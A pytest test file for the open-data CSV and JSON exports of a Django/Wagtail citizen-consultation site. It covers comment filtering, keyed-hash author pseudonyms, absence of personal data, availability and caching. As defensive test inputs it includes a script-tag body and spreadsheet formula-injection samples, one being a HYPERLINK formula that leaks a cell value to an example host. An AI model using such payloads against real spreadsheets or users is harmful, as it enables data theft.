"""The open data of a consultation (summaries/opendata.py and views.py): the
CSV and JSON files, the page that explains them and the links on the
consultation page."""

import csv
import hashlib
import hmac
import io
import json
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from asgiref.sync import async_to_sync
from django.contrib.auth.models import AnonymousUser
from django.core.exceptions import ImproperlyConfigured
from django.db import connection
from django.template import Context, Template
from django.test import AsyncRequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from wagtail.models import PageViewRestriction

from accounts.roles import CITIZEN
from comments.models import Comment, CommentStatus
from summaries import opendata, views

SITE_ZONE = ZoneInfo("America/Mexico_City")
P, HIDDEN, REMOVED, HELD, DELETED = (
    CommentStatus.PUBLISHED,
    CommentStatus.HIDDEN,
    CommentStatus.REMOVED,
    CommentStatus.HELD,
    CommentStatus.DELETED,
)
# Files of a consultation (URL names); "page" is the HTML page about them.
FILES = ("summaries:export-csv", "summaries:export-json")
ALL_URLS = (*FILES, "summaries:open-data")


# Building consultations and comments --------------------------------------------


def closed(make_consultation, **kwargs):
    now = timezone.now()
    kwargs.setdefault("opens_at", now - timedelta(days=20))
    kwargs.setdefault("closes_at", now - timedelta(days=2))
    kwargs.setdefault("questions", ["¿Dónde hacen falta ciclovías?", "¿Qué transporte falta?"])
    kwargs.setdefault("sections", [("Plazos", "El plazo es de seis meses.")])
    return make_consultation(**kwargs)


def add(
    consultation, author, body="Un comentario.", *, status=P, parent=None, anchor=None, **extra
):
    """A comment written straight to the table (as a bulk import would)."""
    if parent is not None:
        anchor = {"question_id": parent.question_id, "section_id": parent.section_id}
    elif anchor is None:
        anchor = {"question": consultation.ordered_questions[0]}
    seq = Comment.objects.filter(consultation=consultation).count() + 1
    tags = extra.pop("tags", ())
    comment = Comment.objects.create(
        consultation=consultation,
        author=author,
        body=body,
        status=status,
        parent=parent,
        depth=parent.depth + 1 if parent else 0,
        created=extra.pop("created", timezone.now() - timedelta(days=5, minutes=-seq)),
        seq=seq,
        **anchor,
        **extra,
    )
    comment.root = parent.root if parent else comment
    comment.save(update_fields=["root"])
    if tags:
        comment.tags.add(*tags)
    return comment


@pytest.fixture
def people(make_user):
    return {
        name: make_user(CITIZEN, display_name=f"{name} Privada", email=f"{name.lower()}@correo.mx")
        for name in ("Ana", "Beto", "Caro", "Dani")
    }


@pytest.fixture
def dataset(make_consultation, people):
    """A closed consultation with a comment in every status, a reply to a
    hidden comment, themes, an edited comment and awkward text."""
    page = closed(make_consultation, title="Ciclovías y plazos", slug="ciclovias-y-plazos")
    ana, beto, caro, dani = (people[n] for n in ("Ana", "Beto", "Caro", "Dani"))
    section = {"section": page.ordered_sections[0]}
    second = {"question": page.ordered_questions[1]}
    c = {}
    c["top"] = add(
        page,
        ana,
        "Una ciclovía segura en la avenida central.",
        tags=("Movilidad", "Agua"),
        agree_count=6,
        disagree_count=1,
        pass_count=2,
        created=datetime(2024, 3, 1, 10, 0, 5, tzinfo=SITE_ZONE),
        edited=datetime(2024, 3, 1, 12, 30, tzinfo=SITE_ZONE),
    )
    c["reply"] = add(page, beto, "Sí, con árboles y sombra.", parent=c["top"])
    c["hidden"] = add(page, caro, "Compra seguidores baratos aquí.", status=HIDDEN, anchor=second)
    c["orphan"] = add(page, dani, "Respondo aunque lo ocultaron.", parent=c["hidden"])
    c["removed"] = add(page, caro, "Un insulto que se retiró.", status=REMOVED, anchor=section)
    c["held"] = add(page, dani, "Espera a un moderador todavía.", status=HELD, parent=c["top"])
    c["deleted"] = add(page, beto, "", status=DELETED, anchor=section)
    c["section"] = add(page, ana, "El plazo del artículo dos es corto.", anchor=section)
    c["markup"] = add(
        page,
        beto,
        '<script>alert("x")</script> & <b>negritas</b>, "comillas", coma;\npunto y coma\n\nfin',
        anchor=second,
    )
    for key in ("top", "hidden"):
        # As comments/actions.py counts them: a reply, later moderated, stays counted.
        c[key].reply_count = 2 if key == "top" else 1
        c[key].save(update_fields=["reply_count"])
    return page, c


def get(client, name, page, language=None):
    with translation.override(language or "es-mx"):
        url = reverse(name, args=[page.pk])
    return client.get(url)


def body_of(response):
    return b"".join(response.streaming_content)


def csv_rows(raw):
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark, for Excel"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def csv_dicts(raw):
    header, *rows = csv_rows(raw)
    assert header == opendata.FIELD_NAMES
    return [dict(zip(header, row, strict=True)) for row in rows]


def json_of(response):
    return json.loads(body_of(response).decode("utf-8"))


def both(client, page):
    csv_response = get(client, FILES[0], page)
    json_response = get(client, FILES[1], page)
    assert csv_response.status_code == json_response.status_code == 200
    return body_of(csv_response), body_of(json_response)


# What is in the files ----------------------------------------------------------


def test_only_published_comments_are_in_either_file(client, dataset):
    page, c = dataset
    raw_csv, raw_json = both(client, page)
    published = [c[k].pk for k in ("top", "reply", "orphan", "section", "markup")]
    assert [int(row["id"]) for row in csv_dicts(raw_csv)] == published
    assert [comment["id"] for comment in json.loads(raw_json)["comments"]] == published
    for key in ("hidden", "removed", "held"):
        assert c[key].body.encode() not in raw_csv, key
        assert c[key].body.encode() not in raw_json, key


def test_a_reply_to_an_unpublished_comment_keeps_its_parent_id(client, dataset):
    page, c = dataset
    raw_csv, raw_json = both(client, page)
    orphan = next(x for x in json.loads(raw_json)["comments"] if x["id"] == c["orphan"].pk)
    assert orphan["parent_id"] == c["hidden"].pk
    assert orphan["question_id"] == page.ordered_questions[1].pk
    row = next(r for r in csv_dicts(raw_csv) if r["id"] == str(c["orphan"].pk))
    assert row["parent_id"] == str(c["hidden"].pk)
    # The parent itself is not in the file, by id either.
    assert str(c["hidden"].pk) not in [r["id"] for r in csv_dicts(raw_csv)]


def test_every_field_of_a_comment(client, dataset, people):
    page, c = dataset
    _, raw_json = both(client, page)
    top = json.loads(raw_json)["comments"][0]
    assert top == {
        "id": c["top"].pk,
        "parent_id": None,
        "question_id": page.ordered_questions[0].pk,
        "question_text": "¿Dónde hacen falta ciclovías?",
        "section_id": None,
        "section_heading": "",
        "author_pseudonym": opendata.pseudonym(page.pk, people["Ana"].pk),
        "body": "Una ciclovía segura en la avenida central.",
        "created": "2024-03-01T10:00:05-06:00",
        "edited": "2024-03-01T12:30:00-06:00",
        "agree_count": 6,
        "disagree_count": 1,
        "pass_count": 2,
        # Its published reply; not the held one, which the table's counter includes.
        "reply_count": 1,
        "themes": ["Agua", "Movilidad"],
    }
    section = next(x for x in json.loads(raw_json)["comments"] if x["id"] == c["section"].pk)
    assert (section["section_id"], section["section_heading"]) == (
        page.ordered_sections[0].pk,
        "Plazos",
    )
    assert (section["question_id"], section["question_text"], section["edited"]) == (None, "", None)


def test_the_csv_reads_back_as_the_json(client, dataset):
    page, _ = dataset
    raw_csv, raw_json = both(client, page)
    as_csv = csv_dicts(raw_csv)
    expected = []
    for comment in json.loads(raw_json)["comments"]:
        row = {}
        for name, value in comment.items():
            if name == "themes":
                value = opendata.THEME_SEPARATOR.join(value)
            row[name] = "" if value is None else str(value)
        expected.append(row)
    assert as_csv == expected
    # Rows end with CRLF (RFC 4180); line breaks inside a body stay as written.
    assert raw_csv.count(b"\r\n") == len(expected) + 1


def test_markup_in_a_body_is_exported_as_text(client, dataset):
    page, c = dataset
    raw_csv, raw_json = both(client, page)
    body = c["markup"].body
    exported = next(x for x in json.loads(raw_json)["comments"] if x["id"] == c["markup"].pk)
    assert exported["body"] == body
    assert next(r for r in csv_dicts(raw_csv) if r["id"] == str(c["markup"].pk))["body"] == body
    # Not escaped as HTML: the files are data, not pages.
    assert b"&lt;" not in raw_json and b"&amp;" not in raw_csv


def test_the_json_describes_the_consultation_licence_and_fields(client, dataset, settings):
    page, _ = dataset
    settings.PUENTE_OPEN_DATA_LICENCE = {"name": "CC0 1.0", "url": "https://example.org/cc0"}
    before = timezone.now().replace(microsecond=0)
    data = json_of(get(client, FILES[1], page))
    assert data["consultation"] == {
        "id": page.pk,
        "title": "Ciclovías y plazos",
        "url": f"http://testserver{page.url}",
        "status": "closed",
        "opens_at": page.opens_at.astimezone(SITE_ZONE).isoformat(timespec="seconds"),
        "closes_at": page.closes_at.astimezone(SITE_ZONE).isoformat(timespec="seconds"),
    }
    assert data["licence"] == {"name": "CC0 1.0", "url": "https://example.org/cc0"}
    assert before <= datetime.fromisoformat(data["generated"]) <= timezone.now()
    assert [field["name"] for field in data["fields"]] == opendata.FIELD_NAMES
    assert all(field["type"] and field["description"] for field in data["fields"])
    assert list(data) == ["consultation", "licence", "generated", "fields", "comments"]


def test_an_empty_consultation_gives_valid_empty_files(client, make_consultation):
    page = closed(make_consultation)
    raw_csv, raw_json = both(client, page)
    assert csv_dicts(raw_csv) == []
    assert json.loads(raw_json)["comments"] == []


# Pseudonyms and personal data ---------------------------------------------------


def expected_pseudonym(secret, consultation_id, user_id):
    """Written out again from the documented recipe (docs/open-data.md)."""
    key = hashlib.sha256(b"puente.summaries.opendata.pseudonym" + secret.encode()).digest()
    message = f"{consultation_id}:{user_id}".encode()
    return hmac.new(key, message, hashlib.sha256).hexdigest()[:16]


def test_pseudonyms_are_stable_within_a_consultation_and_across_both_files(client, dataset, people):
    page, c = dataset
    raw_csv, raw_json = both(client, page)
    from_json = {x["id"]: x["author_pseudonym"] for x in json.loads(raw_json)["comments"]}
    from_csv = {int(r["id"]): r["author_pseudonym"] for r in csv_dicts(raw_csv)}
    assert from_json == from_csv
    # Ana wrote two comments, Beto two: one pseudonym each, four people in all.
    assert from_json[c["top"].pk] == from_json[c["section"].pk]
    assert from_json[c["reply"].pk] == from_json[c["markup"].pk]
    assert len(set(from_json.values())) == 3  # Ana, Beto, Dani (Caro's were moderated)
    assert all(len(p) == 16 and set(p) <= set("0123456789abcdef") for p in from_json.values())


def test_pseudonyms_differ_across_consultations(client, dataset, make_consultation, people):
    page, c = dataset
    other = closed(make_consultation, title="Otra consulta")
    add(other, people["Ana"], "Ana en otra consulta.")
    first = json_of(get(client, FILES[1], page))["comments"][0]["author_pseudonym"]
    second = json_of(get(client, FILES[1], other))["comments"][0]["author_pseudonym"]
    assert first != second
    assert second == opendata.pseudonym(other.pk, people["Ana"].pk)


def test_the_pseudonym_is_the_documented_keyed_hash(client, dataset, people, settings):
    page, _ = dataset
    ana = people["Ana"].pk
    settings.PUENTE_OPEN_DATA_KEY = ""
    derived = json_of(get(client, FILES[1], page))["comments"][0]["author_pseudonym"]
    assert derived == expected_pseudonym(settings.SECRET_KEY, page.pk, ana)
    settings.PUENTE_OPEN_DATA_KEY = "una-clave-propia-para-datos-abiertos"
    own = json_of(get(client, FILES[1], page))["comments"][0]["author_pseudonym"]
    assert own == expected_pseudonym("una-clave-propia-para-datos-abiertos", page.pk, ana)
    # Rotating the key changes every pseudonym (docs/open-data.md says so).
    assert own != derived


def test_no_email_name_or_account_in_either_file(client, dataset, people, make_user):
    page, _ = dataset
    bystander = make_user(CITIZEN, display_name="Nadie Más", email="nadie@correo.mx")
    raw_csv, raw_json = both(client, page)
    for user in (*people.values(), bystander):
        for secret in (user.email, user.display_name, user.display_name.split()[1]):
            assert secret.encode() not in raw_csv, secret
            assert secret.encode() not in raw_json, secret
    for comment in json.loads(raw_json)["comments"]:
        assert list(comment) == opendata.FIELD_NAMES
    assert b"author_id" not in raw_json and b"@" not in raw_csv


# Spreadsheet formulas ------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://example.com/?leak="&A1;"clic")',
    "+52 55 1234 5678",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)


def test_cells_that_a_spreadsheet_would_run_get_an_apostrophe(client, make_consultation, citizen):
    page = closed(make_consultation, questions=["=1+1 ¿fórmula en la pregunta?"])
    comments = [add(page, citizen, body, tags=("=Tema",)) for body in FORMULAS]
    harmless = add(page, citizen, "a=b, 1+1 y -guion en medio")
    raw_csv, raw_json = both(client, page)
    rows = {int(r["id"]): r for r in csv_dicts(raw_csv)}
    for comment in comments:
        row = rows[comment.pk]
        assert row["body"] == "'" + comment.body
        assert row["question_text"] == "'=1+1 ¿fórmula en la pregunta?"
        assert row["themes"] == "'=Tema"
    assert rows[harmless.pk]["body"] == "a=b, 1+1 y -guion en medio"
    # The JSON has the exact text.
    exported = {x["id"]: x for x in json.loads(raw_json)["comments"]}
    assert [exported[c.pk]["body"] for c in comments] == list(FORMULAS)
    assert exported[comments[0].pk]["themes"] == ["=Tema"]
    # No cell of the CSV starts with a formula character, whatever column.
    for row in csv_rows(raw_csv):
        assert not any(cell.startswith(opendata.FORMULA_STARTS) for cell in row)


# Availability --------------------------------------------------------------------


def consultation_in(make_consultation, status):
    now = timezone.now()
    dates = {
        "upcoming": (now + timedelta(days=2), now + timedelta(days=20)),
        "open": (now - timedelta(days=2), now + timedelta(days=20)),
        "closed": (now - timedelta(days=20), now - timedelta(days=2)),
        "reported": (now - timedelta(days=20), now - timedelta(days=2)),
    }[status]
    page = make_consultation(opens_at=dates[0], closes_at=dates[1], questions=["¿Algo?"])
    if status == "reported":
        page.reported_at = now - timedelta(days=1)
        page.save(update_fields=["reported_at"])
    assert page.status == status
    return page


@pytest.mark.parametrize(
    ("mode", "status", "available"),
    [
        ("closed", "upcoming", False),
        ("closed", "open", False),
        ("closed", "closed", True),
        ("closed", "reported", True),
        ("always", "upcoming", True),
        ("always", "open", True),
        ("always", "closed", True),
        ("always", "reported", True),
        ("never", "upcoming", False),
        ("never", "open", False),
        ("never", "closed", False),
        ("never", "reported", False),
    ],
)
def test_availability_by_status_and_setting(
    client, make_consultation, citizen, settings, mode, status, available
):
    settings.PUENTE_OPEN_DATA_AVAILABLE = mode
    page = consultation_in(make_consultation, status)
    comment = add(page, citizen, "Un comentario de la consulta.")
    csv_response, json_response = (get(client, name, page) for name in FILES)
    page_response = get(client, "summaries:open-data", page)
    assert page_response.status_code == 200
    if available:
        assert csv_response.status_code == json_response.status_code == 200
        assert json_of(json_response)["comments"][0]["id"] == comment.pk
        assert csv_dicts(body_of(csv_response))[0]["body"] == comment.body
        assert reverse("summaries:export-csv", args=[page.pk]) in page_response.content.decode()
        return
    assert csv_response.status_code == json_response.status_code == 403
    assert "no-cache" in json_response["Cache-Control"]
    refusal = json.loads(json_response.content)
    html = csv_response.content.decode()
    assert comment.body not in html and comment.body not in json_response.content.decode()
    assert "data-unavailable" in html and 'export.csv" download' not in html
    if mode == "never":
        assert refusal["available_from"] is None
        assert "no publica" in refusal["detail"] or "does not publish" in refusal["detail"]
    else:
        assert datetime.fromisoformat(refusal["available_from"]) == page.closes_at
        shown = timezone.localtime(page.closes_at)
        assert str(shown.year) in refusal["detail"] and str(shown.year) in html


def test_a_report_published_before_the_closing_date_makes_the_files_available(
    client, make_consultation, citizen
):
    page = consultation_in(make_consultation, "open")
    page.reported_at = timezone.now() - timedelta(minutes=1)
    page.save(update_fields=["reported_at"])
    state = opendata.availability(page, timezone.now())
    assert state.available and state.final and state.available_from == page.reported_at
    assert get(client, FILES[1], page).status_code == 200


def test_an_unknown_setting_value_is_an_error(settings, make_consultation):
    settings.PUENTE_OPEN_DATA_AVAILABLE = "sometimes"
    with pytest.raises(ImproperlyConfigured):
        opendata.availability(closed(make_consultation), timezone.now())


@pytest.mark.parametrize("name", ALL_URLS)
def test_drafts_private_and_unknown_consultations_are_404(client, make_consultation, name):
    draft = closed(make_consultation, publish=False)
    private = closed(make_consultation)
    PageViewRestriction.objects.create(
        page=private, restriction_type=PageViewRestriction.PASSWORD, password="x"
    )
    unpublished = closed(make_consultation)
    unpublished.unpublish()
    for page in (draft, private, unpublished):
        assert get(client, name, page).status_code == 404
    assert client.get(reverse(name, args=[987654321])).status_code == 404


def test_the_files_are_downloads_named_after_the_slug_and_briefly_cacheable(client, dataset):
    page, _ = dataset
    csv_response, json_response = (get(client, name, page) for name in FILES)
    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert json_response["Content-Type"] == "application/json; charset=utf-8"
    assert csv_response["Content-Disposition"] == (
        'attachment; filename="ciclovias-y-plazos-comments.csv"'
    )
    assert json_response["Content-Disposition"].endswith('"ciclovias-y-plazos-comments.json"')
    for response in (csv_response, json_response):
        assert response.streaming
        assert set(response["Cache-Control"].split(", ")) == {"public", "max-age=300"}


def test_files_of_an_open_consultation_are_not_cached(client, make_consultation, settings):
    settings.PUENTE_OPEN_DATA_AVAILABLE = "always"
    page = consultation_in(make_consultation, "open")
    response = get(client, FILES[0], page)
    assert response.status_code == 200 and response["Cache-Control"] == "no-cache"
    assert json_of(get(client, FILES[1], page))["consultation"]["status"] == "open"


def test_a_unicode_slug_gives_an_encoded_file_name(client, make_consultation):
    page = closed(make_consultation, slug="participación-ñandú")
    disposition = get(client, FILES[0], page)["Content-Disposition"]
    assert disposition == (
        "attachment; filename*=utf-8''participaci%C3%B3n-%C3%B1and%C3%BA-comments.csv"
    )


# Scale: queries per chunk and streaming ----------------------------------------------


def fill(page, authors, n):
    """`n` comments, a third of them with a theme, a reply to every fifth."""
    comments = Comment.objects.bulk_create(
        Comment(
            consultation=page,
            question=page.ordered_questions[0],
            author=authors[i % len(authors)],
            body=f"Comentario número {i}.",
            created=timezone.now() - timedelta(hours=n - i),
            seq=i + 1,
        )
        for i in range(n)
    )
    for i, comment in enumerate(comments):
        if i % 3 == 0:
            comment.tags.add(f"Tema {i % 4}")
        if i % 5 == 4:
            add(page, authors[0], f"Respuesta a {i}.", parent=comment)
    return comments


@pytest.mark.parametrize("name", FILES)
def test_the_queries_do_not_grow_with_the_comments(
    client, make_consultation, people, name, django_assert_num_queries
):
    authors = list(people.values())
    small, large = closed(make_consultation), closed(make_consultation)
    fill(small, authors, 3)
    fill(large, authors, 30)
    counts = []
    for page, expected_rows in ((small, 3), (large, 36)):
        with CaptureQueriesContext(connection) as whole:
            response = get(client, name, page)
            # One chunk: the comments with their anchors, their themes, their replies.
            with django_assert_num_queries(3):
                raw = body_of(response)
        counts.append(len(whole))
        rows = csv_dicts(raw) if name.endswith("csv") else json.loads(raw)["comments"]
        assert len(rows) == expected_rows
    assert counts[0] == counts[1]


def test_each_chunk_takes_three_queries(client, make_consultation, people, monkeypatch):
    """30 comments (and 6 replies) by chunks of 10: 4 chunks of three queries,
    the last short one ending the file; 40 exactly: one more query to learn
    that the fourth full chunk was the last."""
    monkeypatch.setattr(opendata, "CHUNK_SIZE", 10)
    page = closed(make_consultation)
    fill(page, list(people.values()), 30)
    response = get(client, FILES[1], page)
    with CaptureQueriesContext(connection) as captured:
        pieces = list(response.streaming_content)
    assert len(captured) == 4 * 3
    # The head, then one piece per chunk, then the closing bracket.
    assert len(pieces) == 1 + 4 + 1
    assert len(json.loads(b"".join(pieces))["comments"]) == 36
    fill(page, list(people.values()), 4)  # 40 published
    response = get(client, FILES[0], page)
    with CaptureQueriesContext(connection) as captured:
        rows = csv_dicts(body_of(response))
    assert len(rows) == 40  # 4 more comments, no reply among them
    assert len(captured) == 4 * 3 + 1


def test_under_asgi_the_files_stream_asynchronously(dataset, client):
    """Django reads a synchronous iterator whole under ASGI: the ASGI response
    must be an asynchronous one, giving the same bytes."""
    page, _ = dataset
    for name, kind in zip(FILES, ("csv", "json"), strict=True):
        request = AsyncRequestFactory().get(reverse(name, args=[page.pk]))
        request.user = AnonymousUser()  # as AuthenticationMiddleware sets it (the limit asks)
        response = getattr(views, f"export_{kind}")(request, page.pk)
        assert response.is_async

        async def read(response=response):
            return b"".join([piece async for piece in response.streaming_content])

        asgi = async_to_sync(read)()
        wsgi = body_of(get(client, name, page))
        if kind == "json":
            generated = json.loads(wsgi)["generated"]
            asgi = json.loads(asgi)
            asgi["generated"] = generated
            assert asgi == json.loads(wsgi)
        else:
            assert asgi == wsgi


# The page and the links, in Spanish and English ---------------------------------------


@pytest.mark.parametrize("language", ["es-mx", "en"])
def test_the_open_data_page_explains_the_files(client, dataset, language):
    page, _ = dataset
    response = get(client, "summaries:open-data", page, language)
    html = response.content.decode()
    assert response.status_code == 200
    assert f'<html lang="{language}">' in html
    for field in opendata.FIELDS:
        assert f'<tr data-field="{field.name}"><th scope="row"><code>{field.name}</code>' in html
    assert 'href="https://creativecommons.org/licenses/by/4.0/" rel="license">CC BY 4.0</a>' in html
    assert "HMAC-SHA256" in html
    prefix = "/en" if language == "en" else ""
    assert f'href="{prefix}/consultations/{page.pk}/export.csv"' in html
    assert f'href="{prefix}/consultations/{page.pk}/export.json"' in html
    # The status comes from the existing catalogue: proof of the language.
    assert ("Cerrada" if language == "es-mx" else "Closed") in html
    assert page.url in html  # back to the consultation
    assert "Privada" not in html  # no author is named


def render_links(page, language):
    with translation.override(language):
        return Template("{% load open_data %}{% open_data_links page %}").render(
            Context({"page": page})
        )


@pytest.mark.parametrize("language", ["es-mx", "en"])
def test_the_links_tag_once_available(dataset, language, django_assert_max_num_queries):
    page, _ = dataset
    with django_assert_max_num_queries(2):  # the view restrictions, as Wagtail reads them
        html = render_links(page, language)
    prefix = "/en" if language == "en" else ""
    assert 'data-available="true"' in html
    for path in ("export.csv", "export.json", "datos-abiertos/"):
        assert f'href="{prefix}/consultations/{page.pk}/{path}"' in html


@pytest.mark.parametrize("language", ["es-mx", "en"])
def test_the_links_tag_says_from_when(make_consultation, language):
    page = consultation_in(make_consultation, "open")
    html = render_links(page, language)
    assert 'data-available="false"' in html
    assert "export.csv" not in html and "export.json" not in html
    with translation.override(language):
        day = Template('{{ d|date:"DATETIME_FORMAT" }}').render(Context({"d": page.closes_at}))
    assert day in html
    # Each language's own date format.
    assert (" de " in day) if language == "es-mx" else ("," in day and " de " not in day)


def test_the_links_tag_shows_nothing_for_drafts_private_pages_or_never(make_consultation, settings):
    draft = closed(make_consultation, publish=False)
    private = closed(make_consultation)
    PageViewRestriction.objects.create(page=private, restriction_type=PageViewRestriction.LOGIN)
    public = closed(make_consultation)
    assert render_links(draft, "es-mx").strip() == ""
    assert render_links(private, "es-mx").strip() == ""
    assert render_links(None, "es-mx").strip() == ""
    settings.PUENTE_OPEN_DATA_AVAILABLE = "never"
    assert render_links(public, "es-mx").strip() == ""
